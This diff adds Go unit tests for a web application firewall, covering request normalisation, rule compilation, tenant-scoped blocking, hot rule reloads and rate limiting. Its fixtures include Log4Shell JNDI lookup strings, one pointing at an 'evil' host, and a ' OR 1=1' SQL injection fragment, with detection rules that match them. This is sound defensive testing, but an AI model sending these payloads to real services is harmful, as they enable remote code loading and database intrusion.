@@ -0,0 +1,259 @@
+package waf
+
+import (
+	"bufio"
+	"context"
+	"net"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+)
+
+func TestParseRequest_Normalizes(t *testing.T) {
+	head := "get /a%252e%252e/%uFF0Fetc?q=%27+OR+1%3D1 HTTP/1.1\r\n" +
+		"host: t\r\nx-api-version: ＄{jndi:ldap}\r\nX-Api-Version: second\r\n\r\nbody"
+	req, ok := ParseRequest([]byte(head))
+	if !ok {
+		t.Fatal("not parsed as HTTP")
+	}
+	if req.Method != "GET" {
+		t.Errorf("method = %q", req.Method)
+	}
+	// Double percent-encoding, a %u escape, and NFKC (fullwidth solidus → '/') all fold.
+	if req.Path != "/a..//etc" {
+		t.Errorf("path = %q", req.Path)
+	}
+	if req.Query != "q=' OR 1=1" {
+		t.Errorf("query = %q", req.Query)
+	}
+	if req.Body != "body" {
+		t.Errorf("body = %q", req.Body)
+	}
+	if got := req.Headers["X-Api-Version"]; len(got) != 2 || got[0] != "${jndi:ldap}" {
+		t.Errorf("headers = %q (fullwidth $ should fold to ASCII)", got)
+	}
+	for _, head := range []string{"\x16\x03\x01\x00", "SSH-2.0-OpenSSH\r\n", "GET /\r\n\r\n"} {
+		if _, ok := ParseRequest([]byte(head)); ok {
+			t.Errorf("%q parsed as an HTTP request", head)
+		}
+	}
+}
+
+// A bare-LF head is one the proxy frames and many upstreams accept, so its
+// headers and body must reach the rules exactly as a CRLF head's would.
+func TestParseRequest_BareLF(t *testing.T) {
+	for name, head := range map[string]string{
+		"LF":    "GET /x HTTP/1.1\nHost: t\nX-Api-Version: ${jndi:ldap}\n\nbody",
+		"mixed": "GET /x HTTP/1.1\r\nHost: t\nX-Api-Version: ${jndi:ldap}\r\n\nbody",
+	} {
+		req, ok := ParseRequest([]byte(head))
+		if !ok {
+			t.Fatalf("%s: not parsed as HTTP", name)
+		}
+		if got := req.Headers["X-Api-Version"]; len(got) != 1 || got[0] != "${jndi:ldap}" {
+			t.Errorf("%s: headers = %q", name, req.Headers)
+		}
+		if req.Path != "/x" || req.Body != "body" {
+			t.Errorf("%s: path = %q, body = %q", name, req.Path, req.Body)
+		}
+	}
+}
+
+func TestPercentDecode_MalformedEscapeKeepsDecoding(t *testing.T) {
+	if got := percentDecode("%zz%2e%2e%"); got != "%zz..%" {
+		t.Errorf("percentDecode = %q", got)
+	}
+}
+
+func TestCompileRules_Rejects(t *testing.T) {
+	for name, r := range map[string]Rule{
+		"no name":          {Target: TargetPath, Match: MatchLiteral, Pattern: "x", Action: ActionBlock},
+		"no pattern":       {Name: "r", Target: TargetPath, Match: MatchLiteral, Action: ActionBlock},
+		"bad target":       {Name: "r", Target: "cookie", Match: MatchLiteral, Pattern: "x", Action: ActionBlock},
+		"header unnamed":   {Name: "r", Target: TargetHeader, Match: MatchLiteral, Pattern: "x", Action: ActionBlock},
+		"header on path":   {Name: "r", Target: TargetPath, Header: "Host", Match: MatchLiteral, Pattern: "x", Action: ActionBlock},
+		"bad regex":        {Name: "r", Target: TargetPath, Match: MatchRegex, Pattern: "(", Action: ActionBlock},
+		"bad match kind":   {Name: "r", Target: TargetPath, Match: "glob", Pattern: "x", Action: ActionBlock},
+		"bad action":       {Name: "r", Target: TargetPath, Match: MatchLiteral, Pattern: "x", Action: "drop"},
+		"empty action too": {Name: "r", Target: TargetPath, Match: MatchLiteral, Pattern: "x"},
+	} {
+		if _, err := CompileRules([]Rule{r}); err == nil {
+			t.Errorf("%s: rule accepted", name)
+		}
+	}
+}
+
+func TestRuleEngine_TargetsActionsAndTenants(t *testing.T) {
+	rs, err := CompileRules([]Rule{
+		{ID: 1000, Name: "no-trace", Target: TargetMethod, Match: MatchLiteral, Pattern: "TRACE", Action: ActionBlock},
+		{ID: 1001, Name: "admin-probe", Target: TargetPath, Match: MatchRegex, Pattern: `^/wp-admin\b`, Action: ActionLog},
+		{ID: 1002, Name: "sqli", Target: TargetQuery, Match: MatchRegex, Pattern: `(?i)'\s+or\s+1=1`, Action: ActionBlock,
+			Tenants: []string{"acme"}},
+		{ID: 1003, Name: "jndi-header", Target: TargetHeader, Header: "x-api-version", Match: MatchLiteral, Pattern: "${JNDI:",
+			Action: ActionBlock},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := NewRuleEngine(nil)
+	e.Swap(rs)
+	e.TenantOf = func(orig string) string {
+		return map[string]string{"10.0.0.5": "acme", "10.0.0.6": "globex"}[HostOf(orig)]
+	}
+	for _, tc := range []struct {
+		name, orig, head string
+		block            bool
+		matches          []string
+	}{
+		{"method", "10.0.0.6:80", "TRACE / HTTP/1.1\r\n\r\n", true, []string{"no-trace"}},
+		{"log action forwards", "10.0.0.6:80", "GET /wp-admin/x HTTP/1.1\r\n\r\n", false, []string{"admin-probe"}},
+		{"tenant enabled", "10.0.0.5:80", "GET /?id=%27%20OR%201%3D1 HTTP/1.1\r\n\r\n", true, []string{"sqli"}},
+		{"tenant not enabled", "10.0.0.6:80", "GET /?id=%27%20OR%201%3D1 HTTP/1.1\r\n\r\n", false, nil},
+		{"unknown tenant", "10.9.9.9:80", "GET /?id=%27%20OR%201%3D1 HTTP/1.1\r\n\r\n", false, nil},
+		{"header, literal case-insensitive", "10.0.0.6:80", "GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://e}\r\n\r\n", true, []string{"jndi-header"}},
+		{"other header", "10.0.0.6:80", "GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://e}\r\n\r\n", false, nil},
+		{"every match listed, first block named", "10.0.0.5:80",
+			"TRACE /wp-admin HTTP/1.1\r\nX-Api-Version: ${jndi:x}\r\n\r\n", true, []string{"no-trace", "admin-probe", "jndi-header"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			v := e.InspectConn("", tc.orig, []byte(tc.head))
+			var names []string
+			for _, m := range v.Matches {
+				names = append(names, m.RuleName)
+			}
+			if v.Block != tc.block || strings.Join(names, ",") != strings.Join(tc.matches, ",") {
+				t.Fatalf("verdict %+v, want block=%v matches=%v", v, tc.block, tc.matches)
+			}
+			if v.Block && v.RuleName != tc.matches[0] {
+				t.Errorf("blocking rule = %q, want %q", v.RuleName, tc.matches[0])
+			}
+		})
+	}
+}
+
+func TestRuleEngine_BaseStillApplies(t *testing.T) {
+	e := NewRuleEngine(NewBuiltinInspector())
+	v := e.Inspect([]byte("GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\n\r\n"))
+	if !v.Block || v.RuleName != "log4shell-jndi" || len(v.Matches) != 1 {
+		t.Fatalf("built-in signature lost under the rule engine: %+v", v)
+	}
+}
+
+// A reload swaps the rule set under a live proxy: the next connection is
+// judged by the new rules, and the listener keeps serving throughout.
+func TestRuleEngine_HotReloadUnderLiveProxy(t *testing.T) {
+	echo := echoServer(t)
+	t.Cleanup(func() { _ = echo.Close() })
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = ln.Close() })
+
+	e := NewRuleEngine(nil)
+	var (
+		mu      sync.Mutex
+		matched []Verdict
+	)
+	p := &TransparentProxy{
+		OrigDst:      func(net.Conn) string { return echo.Addr().String() },
+		Inspector:    e,
+		EnforceBlock: true,
+		OnMatch: func(_ string, v Verdict, dropped bool) {
+			mu.Lock()
+			matched = append(matched, v)
+			mu.Unlock()
+			if !dropped {
+				t.Error("block match in enforce mode not reported as dropped")
+			}
+		},
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	t.Cleanup(cancel)
+	go func() { _ = p.Serve(ctx, ln) }()
+
+	request := func() string {
+		conn, err := net.DialTimeout("tcp", ln.Addr().String(), 2*time.Second)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer func() { _ = conn.Close() }()
+		_, _ = conn.Write([]byte("GET /internal/debug HTTP/1.1\r\nHost: t\r\n\r\n"))
+		_ = conn.SetReadDeadline(time.Now().Add(2 * time.Second))
+		line, _ := bufio.NewReader(conn).ReadString('\n')
+		return line
+	}
+	if line := request(); !strings.HasPrefix(line, "GET /internal/debug") {
+		t.Fatalf("before the reload the request should be forwarded, got %q", line)
+	}
+	rs, err := CompileRules([]Rule{{ID: 1000, Name: "debug", Target: TargetPath, Match: MatchLiteral, Pattern: "/internal/", Action: ActionBlock}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	e.Swap(rs)
+	if line := request(); !strings.Contains(line, "403") {
+		t.Fatalf("after the reload the request should be refused, got %q", line)
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(matched) != 1 || matched[0].Matches[0].RuleID != 1000 {
+		t.Fatalf("OnMatch = %+v", matched)
+	}
+}
+
+func TestRuleEngine_RateLimitPerSource(t *testing.T) {
+	rs, err := CompileRules([]Rule{
+		{ID: 1000, Name: "all", Action: ActionRateLimit, RequestsPerMinute: 60, Burst: 2},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := NewRuleEngine(nil)
+	e.Swap(rs)
+	now := time.Unix(0, 0)
+	e.limiter.now = func() time.Time { return now }
+	req := []byte("GET / HTTP/1.1\r\n\r\n")
+
+	for i := 0; i < 2; i++ {
+		if v := e.InspectConn("192.0.2.1", "", req); v.Block || len(v.Matches) != 0 {
+			t.Fatalf("request %d within the burst: %+v", i+1, v)
+		}
+	}
+	v := e.InspectConn("192.0.2.1", "", req)
+	if !v.Block || !v.RateLimited || v.RuleName != "all" || v.Matches[0].Action != ActionRateLimit {
+		t.Fatalf("over the limit: %+v", v)
+	}
+	if v := e.InspectConn("192.0.2.2", "", req); v.Block {
+		t.Errorf("another client shares the bucket: %+v", v)
+	}
+	if v := e.InspectConn("", "", req); v.Block {
+		t.Errorf("no source should skip rate rules: %+v", v)
+	}
+	now = now.Add(time.Second) // 60 rpm → one token back
+	if v := e.InspectConn("192.0.2.1", "", req); v.Block {
+		t.Errorf("after a refill: %+v", v)
+	}
+	now = now.Add(rateSweepInterval)
+	_ = e.InspectConn("192.0.2.3", "", req)
+	if n := e.limiter.size(); n != 1 {
+		t.Errorf("%d buckets after the sweep, want only the new client's", n)
+	}
+}
+
+func TestCompileRules_RateLimit(t *testing.T) {
+	for name, r := range map[string]Rule{
+		"no rpm":             {Name: "r", Action: ActionRateLimit},
+		"negative burst":     {Name: "r", Action: ActionRateLimit, RequestsPerMinute: 10, Burst: -1},
+		"rpm on a block":     {Name: "r", Target: TargetPath, Match: MatchLiteral, Pattern: "x", Action: ActionBlock, RequestsPerMinute: 10},
+		"target, no pattern": {Name: "r", Target: TargetPath, Action: ActionRateLimit, RequestsPerMinute: 10},
+	} {
+		if _, err := CompileRules([]Rule{r}); err == nil {
+			t.Errorf("%s: rule accepted", name)
+		}
+	}
+	rs, err := CompileRules([]Rule{{Name: "r", Action: ActionRateLimit, RequestsPerMinute: 10}})
+	if err != nil || rs.rules[0].Burst != 10 {
+		t.Errorf("burst should default to the rate: %v", err)
+	}
+}